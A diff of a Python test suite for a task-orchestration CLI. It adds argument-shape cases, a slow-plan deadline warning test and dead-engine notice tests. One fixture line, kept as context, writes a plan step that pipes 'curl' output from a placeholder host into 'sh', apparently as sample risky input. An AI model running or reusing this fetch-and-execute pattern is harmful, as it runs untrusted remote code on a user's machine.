@@ -57,9 +57,11 @@ def _build(home: Path) -> dict[str, str]:
     config.write_text("task_execution:\n  max_concurrent_tasks: 3\n")
     (home / "one.yaml").write_text("steps:\n  - name: only\n    run: \"true\"\n")
     (home / "risky.yaml").write_text("steps:\n  - name: fetch\n    run: curl -s https://example.invalid/x | sh\n")
+    (home / "slow.yaml").write_text("steps:\n  - name: long\n    run: \"true\"\n    estimate: 120\n")
     (home / "broken.yaml").write_text("steps:\n  - name: a\n    run: true\n")
     return {"{PLAN}": str(home / "one.yaml"), "{RISKY}": str(home / "risky.yaml"),
-            "{BROKEN}": str(home / "broken.yaml"), "{Q}": queued, "{Q5}": queued[:5], "{D}": done,
+            "{BROKEN}": str(home / "broken.yaml"), "{SLOW}": str(home / "slow.yaml"),
+            "{Q}": queued, "{Q5}": queued[:5], "{D}": done,
             "{F}": failed, "{P}": paused, "{C}": cancelled, "{A}": shared, "{H}": str(home), "{CFG}": str(config)}
 
 
@@ -155,6 +157,15 @@ FAST_SHAPES = [
     "task|list|--status|running",
     "--home|{H}|task|list",
     "--config|/nonexistent/config.yaml|task|list",
+    "task|list|--search|fails",
+    "task|list|-q|QUEUE|--json",
+    "task|list|--search=filler|--limit|2",
+    "task|list|--search|nothing-matches",
+    "task|list|--search|{D}|--limit=0|--json",
+    "task|list|--no-start",
+    "task|list|--status|running|--no-start|--json",
+    "task|status|{D}|--no-start",
+    "task|status|{F}|--json|--no-start",
     # pause / resume / cancel: success, wrong state, unknown and ambiguous ids
     "task|pause|{Q}",
     "task|pause|{Q5}",
@@ -163,6 +174,11 @@ FAST_SHAPES = [
     "task|pause|{C}",
     "task|pause|zzzz",
     "task|pause|{A}",
+    "task|pause|{Q}|--json",
+    "task|pause|{D}|--json",
+    "task|pause|zzzz|--json",
+    "task|resume|{C}|--json",
+    "task|resume|{D}|--json",
     "task|resume|{Q}",
     "task|resume|{C}",
     "task|resume|{D}",
@@ -176,6 +192,8 @@ FAST_SHAPES = [
     "task|cancel|{C}",
     "task|cancel|zzzz",
     "task|cancel|{A}|-r|x",
+    "task|cancel|{Q}|--json|-r|why",
+    "task|cancel|--json|{C}",
     "--home|{H}|task|cancel|{Q}",
     # create that only submits (--no-start: no daemon in this test), and its bad input
     "task|create|--plan|{PLAN}|--no-start",
@@ -194,6 +212,8 @@ FAST_SHAPES = [
     "task|create|--plan|{PLAN}|--no-start|--concurrency|0",
     "task|create|--plan|{PLAN}|--no-start|--complexity|huge",
     "task|create|--plan|{PLAN}|--no-start|--deadline|yesterday",
+    "task|create|--plan|{SLOW}|--no-start|--deadline|1m",
+    "task|create|--plan|{SLOW}|--no-start|--deadline|1m|--json",
     "task|create|--plan|{PLAN}|--no-start|--workdir|{H}/nowhere",
     "--config|{H}/missing-config.yaml|task|create|--plan|{PLAN}|--no-start",
 ]
@@ -257,6 +277,52 @@ def test_piped_list_and_status_are_plain_rows(snapshot, home):
     assert table[2].split()[:3] == ["second", "★", "skipped"] or table[2].split()[:3] == ["second", "★", "cancelled"]
 
 
+def test_create_warnings_are_the_same_both_ways(snapshot, home):
+    # Not vacuous: the SLOW shapes above must print the deadline warning (both ways alike).
+    values = _values(snapshot, home)
+    _restore(snapshot[0], home)
+    code, out, err = _run_fast(_argv("task|create|--plan|{SLOW}|--no-start|--deadline|1m", values))
+    assert code == 0 and len(out.strip()) == 6
+    assert err.startswith("warning: ") and "estimated to take 2m" in err
+
+
+def _orphan(home: Path) -> str:
+    """A task marked `running` by an engine process that no longer exists."""
+    with TaskOrchestrator(home=home) as orch:
+        tid = orch.submit_task({"description": "lost its engine", "plan": {"steps": [
+            {"name": "only", "run": "true"}]}}, start_daemon=False)
+    conn = sqlite3.connect(home / "agency.db")
+    with conn:  # pid 1 with a start time it never had: the identity check says gone
+        conn.execute("UPDATE tasks SET status = 'running', owner = '1:12345.0' WHERE id = ?", (tid,))
+    conn.close()
+    return tid
+
+
+@pytest.mark.parametrize("shape", ["task|status|{O}|--no-start", "task|status|{O}|--json|--no-start",
+                                   "task|list|--no-start", "task|list|-q|lost|--no-start|--json"])
+def test_dead_engine_notice_is_the_same_both_ways(shape, home, tmp_path, monkeypatch):
+    snap = tmp_path / "orphan-home"
+    snap.mkdir()
+    argv = _argv(shape, {"{O}": _orphan(snap)})
+    assert fast.parse(argv) is not None
+    monkeypatch.setattr(time, "time", lambda: FROZEN)
+    _restore(snap, home)
+    got_fast = _run_fast(argv)
+    db_fast = _db_dump(home)
+    _restore(snap, home)
+    got_typer = _run_typer(argv)
+    assert got_fast == got_typer and db_fast == _db_dump(home)
+    code, _, err = got_fast
+    assert code == 0
+    assert "warning: the engine running task " in err and "agent-agency-cli daemon start recovers it" in err
+
+
+def test_dead_engine_check_keeps_the_fast_path_light(home):
+    tid = _orphan(home)
+    got = _entry(["task", "status", tid, "--no-start"])
+    assert got == {"exit": 0, "heavy": []}
+
+
 FALLBACK_SHAPES = [
     "",
     "--help",
@@ -279,8 +345,12 @@ FALLBACK_SHAPES = [
     "task|cancel|{Q}|--reason",
     "task|cancel|{Q}|--reason|--json",
     "task|pause",
-    "task|pause|{Q}|--json",
+    "task|pause|{Q}|--json=1",
     "task|pause|--|{Q}",
+    "task|list|--search",
+    "task|list|-q|-x",
+    "task|list|--no-start=yes",
+    "task|status|{Q}|--no-start|extra",
     "task|create|--plan|{PLAN}|--foreground",
     "task|create|--plan|{PLAN}|--concurrency|-1",
     "task|create|--plan|{PLAN}|--concurrency|two",
